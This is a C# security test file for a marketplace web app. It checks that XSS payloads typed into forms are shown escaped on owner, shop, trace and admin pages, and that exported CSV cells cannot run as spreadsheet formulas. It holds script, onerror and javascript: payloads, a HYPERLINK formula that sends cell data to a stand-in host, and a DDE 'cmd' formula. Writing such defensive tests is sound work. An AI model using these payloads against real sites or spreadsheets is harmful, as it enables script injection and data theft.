using System.IO.Compression;
using System.Net;
using AngleSharp;
using AngleSharp.Dom;
using Cho40.Tests.Infrastructure;
using Cho40.Tests.Catalog;
using Cho40.Tests.Shop;
using Dapper;
using Npgsql;

namespace Cho40.Tests.Security;

/// <summary>
/// Script in every text field people type, submitted through the real forms, comes back as text on every page that
/// shows it (owner pages, shop, trace page, admin pages, order page), and spreadsheet formulas in exported CSV
/// cells are neutralised.
/// </summary>
public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixture>
{
    private const string Payload = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>";
    private Cho40App App => fixture.App;

    /// <summary>The page has no element the payload would have produced, and (when it shows it) shows it as text.</summary>
    private static async Task<IDocument> AssertEscapedAsync(PageClient client, string url, bool mustShow = true)
    {
        var (response, page) = await client.GetPageAsync(url);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"GET {url} → {(int)response.StatusCode}");
        AssertNoInjectedMarkup(page, url);
        if (mustShow) Assert.True(page.Body!.TextContent.Contains("<script>alert(1)</script>"), $"{url} does not show the payload as text");
        return page;
    }

    private static void AssertNoInjectedMarkup(IDocument page, string url)
    {
        Assert.False(page.QuerySelectorAll("script").Any(s => s.TextContent.Contains("alert", StringComparison.Ordinal)), $"{url}: script element from user text");
        Assert.Empty(page.QuerySelectorAll("img[src=x]"));
        var withHandlers = page.All.Where(e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))).ToList();
        Assert.True(withHandlers.Count == 0, $"{url}: elements with on* attributes: {string.Join(", ", withHandlers.Select(e => e.OuterHtml[..Math.Min(80, e.OuterHtml.Length)]))}");
        Assert.Empty(page.QuerySelectorAll("a[href^='javascript:' i]"));
    }

    private async Task<PageClient> SignedInAsync(string phone)
    {
        var client = App.NewClient();
        await client.SignInAsync(phone);
        return client;
    }

    private async Task<T> ScalarAsync<T>(string sql, object? args = null)
    {
        await using var db = new NpgsqlConnection(App.ConnectionString);
        return (await db.ExecuteScalarAsync<T>(sql, args))!;
    }

    [Fact]
    public async Task Sign_up_name_and_seller_application_are_escaped_on_the_account_and_admin_pages()
    {
        var phone = Unique.Phone();
        using var person = App.NewClient();
        Assert.Equal(HttpStatusCode.Redirect, (await person.SubmitFormAsync("/Account/SignUp", "main form", new Dictionary<string, string>
        {
            ["Input.DisplayName"] = "Nông " + Payload, ["Input.Phone"] = phone,
            ["Input.Password"] = "mat-khau-123", ["Input.ConfirmPassword"] = "mat-khau-123",
        })).StatusCode);
        await person.SignInAsync(phone, "mat-khau-123");
        await AssertEscapedAsync(person, "/Account");

        var applied = await person.SubmitFormAsync("/Seller/Apply", "main form", new Dictionary<string, string>
        {
            ["Input.Name"] = "Hộ " + Payload, ["Input.Kind"] = "household", ["Input.ProvinceCode"] = "19",
            ["Input.CommuneCode"] = ShopHelpers.TanCuongCommune, ["Input.AddressLine"] = Payload, ["Input.Description"] = Payload,
        });
        Assert.Equal(HttpStatusCode.Redirect, applied.StatusCode);
        using var admin = await SignedInAsync("0900000001");
        await AssertEscapedAsync(admin, "/Admin/Sellers");
        await AssertEscapedAsync(admin, "/Admin", mustShow: false);
    }

    [Fact]
    public async Task Stall_name_and_goods_are_escaped_on_the_stall_pages_and_the_market_sheet()
    {
        using var owner = await SignedInAsync("0900000004");
        // A stall of this test's own (the demo stallholder's, with an account, at Chợ Thái): the demo A01 stays as it is.
        var (stallId, _, _) = await Cho40.Tests.Stalls.StallTestData.NewStallAsync(App);
        var saved = await owner.SubmitFormAsync($"/Stall/Edit/{stallId}", "main form", new Dictionary<string, string>
        {
            ["Input.Name"] = Payload, ["Input.Goods"] = Payload,
        });
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        await AssertEscapedAsync(owner, "/Stall");
        await AssertEscapedAsync(owner, $"/Stall/{stallId}/Screen");
        await AssertEscapedAsync(owner, $"/Stall/{stallId}/Sign");
        await AssertEscapedAsync(owner, $"/Stall/Edit/{stallId}", mustShow: false);

        // A refused holder name is echoed back into the form: as an attribute value, not markup.
        var refused = await owner.SubmitFormAsync($"/Stall/Edit/{stallId}", "main form", new Dictionary<string, string> { ["Input.AccountHolder"] = Payload });
        Assert.Equal(HttpStatusCode.OK, refused.StatusCode);
        AssertNoInjectedMarkup(await PageClient.ParseAsync(refused), "refused stall form");

        using var manager = await SignedInAsync("0900000002");
        var market = await ScalarAsync<long>("SELECT id FROM markets WHERE slug = 'cho-thai'");
        await AssertEscapedAsync(manager, $"/Market/{market}/Signs");
    }

    [Fact]
    public async Task Product_name_and_Markdown_description_are_escaped_in_the_shop_search_and_seller_pages()
    {
        using var seller = await SignedInAsync("0900000003");
        var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
        var created = await seller.SubmitFormAsync("/Seller/Catalog/New", "main form.form", new Dictionary<string, string>
        {
            ["Input.Name"] = "Chè độc " + Payload, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "kg",
            ["Input.Price"] = "100000", ["Input.Stock"] = "5", ["Input.OtherCertifications"] = Payload,
            ["Input.Description"] = Payload + "\n\n[bấm vào đây](javascript:alert(1)) <a href=\"javascript:alert(1)\">x</a> <iframe src=//x></iframe>",
        });
        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
        var id = long.Parse(created.Headers.Location!.OriginalString.Split('/').Last());
        var (_, edit) = await seller.GetPageAsync($"/Seller/Catalog/Edit/{id}");
        Assert.Equal(HttpStatusCode.Redirect, (await seller.SubmitAsync(edit, "form[action*='handler=Publish']", new Dictionary<string, string>())).StatusCode);
        var slug = await ScalarAsync<string>("SELECT slug FROM products WHERE id = @id", new { id });

        await AssertEscapedAsync(seller, $"/Seller/Catalog/Edit/{id}", mustShow: false);
        await AssertEscapedAsync(seller, "/Seller/Catalog");
        using var shopper = App.NewClient();
        var product = await AssertEscapedAsync(shopper, $"/san-pham/{slug}");
        Assert.Empty(product.QuerySelectorAll("iframe"));
        await AssertEscapedAsync(shopper, "/search?q=che+doc");
        await AssertEscapedAsync(shopper, "/nguoi-ban/htx-che-tan-cuong");
        // The search box itself: the query is shown back in the box and the heading.
        await AssertEscapedAsync(shopper, "/search?q=" + Uri.EscapeDataString(Payload));
    }

    [Fact]
    public async Task Trace_event_notes_and_actor_are_escaped_on_the_seller_and_public_trace_pages()
    {
        using var seller = await SignedInAsync("0900000003");
        var batch = await ScalarAsync<long>("SELECT id FROM trace_batches WHERE code = 'TCDB25AQ'");
        var added = await seller.SubmitFormAsync($"/Seller/Trace/Batch/{batch}", "#event-form", new Dictionary<string, string>
        {
            ["Input.Kind"] = "inspection", ["Input.OccurredAt"] = App.Clock.GetUtcNow().AddHours(7).AddMinutes(-5).ToString("yyyy-MM-ddTHH:mm"),
            ["Input.ProvinceCode"] = "19", ["Input.Actor"] = Payload, ["Input.Note"] = Payload,
        });
        Assert.Equal(HttpStatusCode.Redirect, added.StatusCode);
        await AssertEscapedAsync(seller, $"/Seller/Trace/Batch/{batch}");
        using var shopper = App.NewClient();
        await AssertEscapedAsync(shopper, "/t/TCDB25AQ");
    }

    [Fact]
    public async Task Checkout_name_address_and_note_are_escaped_on_the_order_seller_and_admin_pages()
    {
        using var shopper = App.NewClient();
        await ShopHelpers.AddToCartAsync(shopper, await ScalarAsync<string>(
            "SELECT p.slug FROM products p JOIN sellers s ON s.id = p.seller_id WHERE s.slug = 'htx-che-tan-cuong' AND p.status = 'published' AND p.stock > 5 ORDER BY p.id LIMIT 1"));
        var values = ShopHelpers.ValidCheckout();
        values["Input.Name"] = "Khách " + Payload;
        values["Input.AddressLine"] = Payload;
        values["Input.Note"] = Payload;
        var placed = await shopper.SubmitFormAsync("/thanh-toan", "#checkout-form", values);
        Assert.Equal(HttpStatusCode.Redirect, placed.StatusCode);
        var orderPage = placed.Headers.Location!.OriginalString;
        await AssertEscapedAsync(shopper, orderPage);
        // This test's order (by the token in its address), not "the latest order": other tests of the class place orders too.
        var orderId = await ScalarAsync<long>("SELECT id FROM orders WHERE access_token = @token", new { token = orderPage.Split('/')[^1] });
        var groupToken = await ScalarAsync<string>("SELECT g.access_token FROM orders o JOIN checkout_groups g ON g.id = o.checkout_group_id WHERE o.id = @orderId", new { orderId });

        using var seller = await SignedInAsync("0900000003");
        await AssertEscapedAsync(seller, $"/Seller/Orders/{orderId}");
        await AssertEscapedAsync(seller, "/Seller/Orders", mustShow: false);
        using var admin = await SignedInAsync("0900000001");
        await AssertEscapedAsync(admin, $"/Admin/Orders/{orderId}");
        await AssertEscapedAsync(admin, "/Admin/Orders", mustShow: false);
        await AssertEscapedAsync(shopper, $"/don-hang/nhom/{groupToken}", mustShow: false);
    }

    /// <summary>
    /// <see cref="Payload"/> as it must appear inside an attribute value of the HTML: every character that could end the
    /// attribute or start a tag encoded (what ASP.NET's HtmlEncoder writes), written out by hand rather than computed.
    /// </summary>
    private const string PayloadInAttribute = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#x27;&gt;&lt;img src=x onerror=alert(1)&gt;";

    [Fact]
    public async Task Validation_errors_echo_what_was_typed_as_text()
    {
        using var client = App.NewClient();

        // Sign-in: the form comes back (200) with the general error; the phone field holds exactly what was typed, as an
        // attribute value (encoded once in the HTML, decoded back to the same text); the password is never echoed.
        var signIn = await client.SubmitFormAsync("/Account/SignIn", "main form", new Dictionary<string, string>
        {
            ["Input.Phone"] = Payload, ["Input.Password"] = Payload,
        });
        Assert.Equal(HttpStatusCode.OK, signIn.StatusCode);
        var (signInHtml, signInPage) = await HtmlAsync(signIn);
        AssertNoInjectedMarkup(signInPage, "sign-in");
        Assert.Equal(Payload, signInPage.QuerySelector("#Input_Phone")!.GetAttribute("value"));
        Assert.Contains($"value=\"{PayloadInAttribute}\"", signInHtml);
        Assert.Equal(1, Occurrences(signInHtml, PayloadInAttribute)); // the phone field only: not the password field
        Assert.Null(signInPage.QuerySelector("#Input_Password")!.GetAttribute("value"));
        Assert.Equal("Số điện thoại hoặc mật khẩu không đúng.", signInPage.QuerySelector(".form-errors")!.TextContent.Trim());

        // Sign-up: name and phone come back as typed, each error next to its field.
        var signUp = await client.SubmitFormAsync("/Account/SignUp", "main form", new Dictionary<string, string>
        {
            ["Input.DisplayName"] = Payload, ["Input.Phone"] = Payload, ["Input.Password"] = "x", ["Input.ConfirmPassword"] = "y",
        });
        Assert.Equal(HttpStatusCode.OK, signUp.StatusCode);
        var (signUpHtml, signUpPage) = await HtmlAsync(signUp);
        AssertNoInjectedMarkup(signUpPage, "sign-up");
        Assert.Equal(Payload, signUpPage.QuerySelector("#Input_DisplayName")!.GetAttribute("value"));
        Assert.Equal(Payload, signUpPage.QuerySelector("#Input_Phone")!.GetAttribute("value"));
        Assert.Equal(2, Occurrences(signUpHtml, $"value=\"{PayloadInAttribute}\""));
        string ErrorFor(string field) => signUpPage.QuerySelector($"[data-valmsg-for='{field}']")!.TextContent.Trim();
        Assert.Equal("Số điện thoại di động không hợp lệ (ví dụ 0912 345 678).", ErrorFor("Input.Phone"));
        Assert.Equal("Mật khẩu cần từ 8 đến 128 ký tự.", ErrorFor("Input.Password"));
        Assert.Equal("Hai mật khẩu không khớp.", ErrorFor("Input.ConfirmPassword"));
        Assert.Equal("", ErrorFor("Input.DisplayName"));
        Assert.Equal(0L, await ScalarAsync<long>("SELECT count(*) FROM users WHERE display_name = @Payload", new { Payload }));
    }

    private static async Task<(string Html, IDocument Page)> HtmlAsync(HttpResponseMessage response)
    {
        var html = await response.Content.ReadAsStringAsync();
        var page = await BrowsingContext.New(Configuration.Default).OpenAsync(r => r.Content(html));
        return (html, page);
    }

    private static int Occurrences(string text, string part)
    {
        var count = 0;
        for (var i = text.IndexOf(part, StringComparison.Ordinal); i >= 0; i = text.IndexOf(part, i + part.Length, StringComparison.Ordinal)) count++;
        return count;
    }

    [Fact]
    public async Task Exported_csv_cells_cannot_run_as_spreadsheet_formulas_and_import_back_unchanged()
    {
        using var seller = await SignedInAsync("0900000007");
        var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
        const string formulaName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Chè\")";
        const string formulaDescription = "-2+3 @SUM(A1) trà ngon";
        var created = await seller.SubmitFormAsync("/Seller/Catalog/New", "main form.form", new Dictionary<string, string>
        {
            ["Input.Name"] = formulaName, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "+kg",
            ["Input.Price"] = "100000", ["Input.Description"] = formulaDescription,
        });
        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);

        var csv = await seller.Http.GetStringAsync("/Seller/Catalog/Export?format=csv");
        var cells = csv.Split(["\r\n"], StringSplitOptions.RemoveEmptyEntries).Skip(1)
            .SelectMany(line => line.Split(',')).Select(c => c.TrimStart('"')).ToList();
        Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@".Contains(c[0]));

        // The guard is undone on import: the exported file imports back without changing the product.
        var content = new MultipartFormDataContent();
        var (_, importPage) = await seller.GetPageAsync("/Seller/Catalog/Import");
        content.Add(new StringContent(importPage.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!), "__RequestVerificationToken");
        content.Add(new ByteArrayContent(System.Text.Encoding.UTF8.GetBytes(csv)), "file", "export.csv");
        var imported = await seller.Http.PostAsync("/Seller/Catalog/Import", content);
        Assert.Equal(HttpStatusCode.Redirect, imported.StatusCode); // accepted: 200 would be the form again with errors
        var (_, afterImport) = await seller.GetPageAsync("/Seller/Catalog");
        Assert.Contains(" 0 mới, ", afterImport.QuerySelector(".flash")!.TextContent);
        Assert.Equal(1, await ScalarAsync<int>("SELECT count(*) FROM products WHERE name = @formulaName AND unit = '+kg' AND description_md = @formulaDescription",
            new { formulaName, formulaDescription }));

        // XLSX keeps text cells as text (no formula elements), so it needs no guard.
        var xlsx = await seller.Http.GetByteArrayAsync("/Seller/Catalog/Export?format=xlsx");
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            Assert.DoesNotContain("<f>", await reader.ReadToEndAsync());
        }
    }

    [Fact]
    public async Task The_bank_payout_file_neutralises_a_formula_in_an_account_name()
    {
        var today = DateOnly.FromDateTime(DateTime.Today);
        var csv = Cho40.Db.Settlement.PayoutCsv(
            new Cho40.Db.SettlementRun(1, "2026-W45", today, today, "completed", DateTimeOffset.UtcNow, 500, DateTimeOffset.UtcNow, DateTimeOffset.UtcNow, 1, 1, 100_000),
            [new Cho40.Db.Payout(7, "HTX", 100_000, "970436", "0011004455667", "=cmd|'/c calc'!A1")]);
        var text = System.Text.Encoding.UTF8.GetString(csv);
        Assert.Contains(",'=CMD|'/C CALC'!A1,", text);
    }

    [Fact]
    public async Task Cod_statement_cells_and_file_names_are_escaped_on_the_admin_pages()
    {
        using var admin = await SignedInAsync("0900000001");
        var day = Cho40.Db.Domain.VietnamTime.DayOf(App.Clock.GetUtcNow()).AddDays(-2).ToString("dd/MM/yyyy");
        // An unknown status word: the file waits on the mapping page, which shows its cells and words as text.
        var unmapped = await CatalogTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
            ("Input.File", "bang-ke.csv", "text/csv", Cho40.Tests.Settlement.SettlementData.Csv(Cho40.Tests.Settlement.SettlementData.CanonicalHeader,
                $"GHN1,,{Payload},0,0,0,{Payload},{day},")));
        Assert.Equal(HttpStatusCode.Redirect, unmapped.StatusCode);
        await AssertEscapedAsync(admin, unmapped.Headers.Location!.OriginalString);

        // Refused: every problem is listed with the cell's text.
        var refused = await CatalogTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
            ("Input.File", "bang-ke.csv", "text/csv", Cho40.Tests.Settlement.SettlementData.Csv(Cho40.Tests.Settlement.SettlementData.CanonicalHeader,
                $"GHN1,,{Payload},0,0,0,Đã giao,{day},")));
        Assert.Equal(HttpStatusCode.OK, refused.StatusCode);
        var page = await PageClient.ParseAsync(refused);
        AssertNoInjectedMarkup(page, "refused COD statement");
        Assert.Contains("<script>alert(1)</script>", page.Body!.TextContent);

        // Accepted: a tracking code and a file name carrying markup.
        var accepted = await CatalogTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
            ("Input.File", "<img src=x onerror=alert(1)>.csv", "text/csv", Cho40.Tests.Settlement.SettlementData.Csv(Cho40.Tests.Settlement.SettlementData.CanonicalHeader,
                $"<b>GHN</b><img src=x onerror=1>,<script>x</script>,100000,0,0,0,Đã giao,{day},")));
        Assert.Equal(HttpStatusCode.Redirect, accepted.StatusCode);
        await AssertEscapedAsync(admin, accepted.Headers.Location!.OriginalString, mustShow: false);
        await AssertEscapedAsync(admin, "/Admin/Cod", mustShow: false);
        await AssertEscapedAsync(admin, "/Admin/Cod/Review", mustShow: false);
    }
}
